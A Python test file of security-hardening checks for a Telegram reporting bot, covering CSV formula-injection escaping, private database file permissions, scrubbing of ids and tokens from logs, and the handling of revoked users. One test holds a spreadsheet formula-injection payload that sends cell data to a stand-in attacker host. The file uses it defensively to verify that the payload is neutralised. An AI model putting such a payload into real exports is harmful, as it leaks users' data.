"""Hardening (security review): formula injection in CSV/HXL (3), private SQLite files (9),
pseudonymous ids in logs (10), one refusal per period (14), no rejoining after revocation (15)."""

from __future__ import annotations

import asyncio
import logging
import os
import stat
from pathlib import Path

import pytest
from sqlalchemy import text

from bot.emulator import EmulatorServer
from bot.exports import _csv_text
from bot.runtime.application import SANDBOX_TOKEN
from storage.db import Database
from tests.botproc import clean_env, khabar, scratch_db_url
from tests.harness import BotHarness
from tests.moderation_support import make_report, notices, reply
from tests.test_invites import make_invite, role_of


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised() -> None:
    attack = '=HYPERLINK("http://evil.example/"&A1,"click")'
    out = _csv_text([[attack, "+1", "-2+3", "@SUM(A1)", "\tx", "plain", -3, None]])
    assert out.startswith("\"'=HYPERLINK(") and ",'+1,'-2+3,'@SUM(A1),'\tx,plain,-3," in out


async def test_sqlite_file_and_folder_are_private(tmp_path: Path) -> None:
    folder = tmp_path / "var"
    db = Database(f"sqlite+aiosqlite:///{folder / 'khabar.db'}")
    try:
        async with db.session() as session:
            await session.execute(text("CREATE TABLE t (x INTEGER)"))
            await session.execute(text("INSERT INTO t VALUES (1)"))
        files = [p for p in folder.iterdir()]
        assert stat.S_IMODE(os.stat(folder).st_mode) == 0o700
        assert files and all(stat.S_IMODE(os.stat(p).st_mode) == 0o600 for p in files), files
    finally:
        await db.dispose()


async def test_strangers_get_one_refusal_and_logs_hold_no_telegram_ids(
    relaxed_bot: BotHarness, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO)
    stranger = await relaxed_bot.user(987654321, "Curious")
    for n in range(5):
        await stranger.send(f"hello {n}")
    assert len(stranger.replies) == 1
    reporter = await relaxed_bot.user(987654322, "Field", role="reporter")
    await reporter.send("/wipe")
    await reporter.send("/pending")
    assert "987654321" not in caplog.text and "987654322" not in caplog.text


async def test_a_revoked_user_cannot_rejoin_with_the_old_link(relaxed_bot: BotHarness) -> None:
    admin = await relaxed_bot.user(1, "Admin", role="admin")
    code = await make_invite(admin, "reporter 5")  # a multi-use link
    person = await relaxed_bot.user(70, "Field")
    await person.send(f"/start {code}")
    assert await role_of(relaxed_bot.db, 70) == "reporter"
    await admin.send("/role 70 none")
    await person.send(f"/start {code}")
    assert "not valid" in person.last_text
    assert await role_of(relaxed_bot.db, 70) == "stranger"
    fresh = await make_invite(admin, "reporter")  # an admin's new decision is honoured
    await person.send(f"/start {fresh}")
    assert await role_of(relaxed_bot.db, 70) == "reporter"


async def test_digest_send_now_with_a_rejected_token_does_not_print_it(tmp_path: Path, db: Database) -> None:
    """Review finding 7: PTB's InvalidToken quotes the token; every command's uncaught errors go
    through the scrubbing logger (sys.excepthook)."""
    emulator = EmulatorServer()
    url = await emulator.start()
    try:
        emulator.revoked_tokens.add(SANDBOX_TOKEN)
        env = clean_env(DATABASE_URL=scratch_db_url(tmp_path), BOT_TOKEN=SANDBOX_TOKEN, TELEGRAM_BASE_URL=url)
        assert (await asyncio.to_thread(khabar, "db", "upgrade", env=env, cwd=tmp_path)).returncode == 0
        target = db if not db.is_sqlite else Database(scratch_db_url(tmp_path))
        try:
            await add_subscribers_to(target)
        finally:
            if target is not db:
                await target.dispose()
        result = await asyncio.to_thread(khabar, "digest", "send-now", env=env, cwd=tmp_path)
        assert result.returncode != 0
        assert SANDBOX_TOKEN not in result.stdout + result.stderr
        assert SANDBOX_TOKEN.split(":")[1] not in result.stdout + result.stderr
        assert "BOT_TOKEN was rejected" in result.stderr
    finally:
        await emulator.stop()


async def add_subscribers_to(db: Database) -> None:
    from storage.models import Subscription, User

    async with db.session() as session:
        session.add(User(id=5, role="coordinator", language="en"))
        await session.flush()
        session.add(Subscription(user_id=5, send_empty=True))


@pytest.mark.parametrize(
    ("how", "why"), [("/block 80", "access is suspended"), ("/role 80 none", "no longer have")]
)
async def test_no_notice_to_a_blocked_or_revoked_reporter(
    relaxed_bot: BotHarness, how: str, why: str
) -> None:
    """Review finding 5: blocking is what an admin does when a phone is lost or seized."""
    admin = await relaxed_bot.user(1, "Admin", role="admin")
    await relaxed_bot.user(80, "Field", role="reporter")
    await make_report(relaxed_bot.db, 80)
    await admin.send(how)
    await admin.send("/pending")
    await admin.press("Ask the reporter")
    await reply(admin, "Where exactly were you standing?")
    assert "reporter was not told" in admin.last_text and why in admin.last_text
    assert await notices(relaxed_bot.db, 80) == []
